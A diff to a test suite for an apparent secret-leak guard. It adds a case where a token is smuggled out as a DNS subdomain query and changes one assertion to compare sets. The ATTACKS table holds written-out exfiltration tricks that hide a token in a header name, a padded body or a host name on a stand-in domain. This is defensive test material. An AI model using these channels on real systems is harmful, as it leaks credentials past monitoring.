@@ -124,6 +124,7 @@ ATTACKS = {
     "in the name of a header": 'ask("https://api.example.com/", {TOKEN: "1"})',
     "in a body of its own host": 'ask("https://api.example.com/", data=b"x" * 100000 + TOKEN.encode())',
     "in a host name": 'ask("https://" + TOKEN + ".listed.example/")',
+    "in a question to the resolver": 'ask("https://" + TOKEN + ".listed.example/", direct=True)',
 }
 TWINS = {
     "another host": 'ask("https://other.example.com/?k=sekisho-secret-doc", {"X-Key": "sekisho-secret-doc"})',
@@ -142,7 +143,7 @@ async def test_a_placeholder_goes_nowhere_else(tmp_path: Path, attack: str) -> N
     sent = b"".join(data for _, data in stage.seen)
     assert VALUE.encode() not in sent
     assert b"sekisho-secret-" not in sent
-    assert [kind for kind, _ in stage.refusals] == ["secret"]
+    assert {kind for kind, _ in stage.refusals} == {"secret"}
     if answer["status"]:
         assert "placeholder" in str(answer["body"])
 
